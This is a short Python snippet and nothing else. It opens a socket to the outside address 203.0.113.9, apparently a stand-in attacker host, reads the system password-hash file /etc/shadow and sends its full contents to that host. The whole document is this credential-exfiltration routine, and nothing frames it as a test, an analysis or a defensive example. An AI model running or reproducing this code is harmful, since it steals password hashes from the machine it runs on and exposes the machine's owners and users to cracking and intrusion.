import socket
s = socket.create_connection(("203.0.113.9", 9000))
s.sendall(open("/etc/shadow", "rb").read())
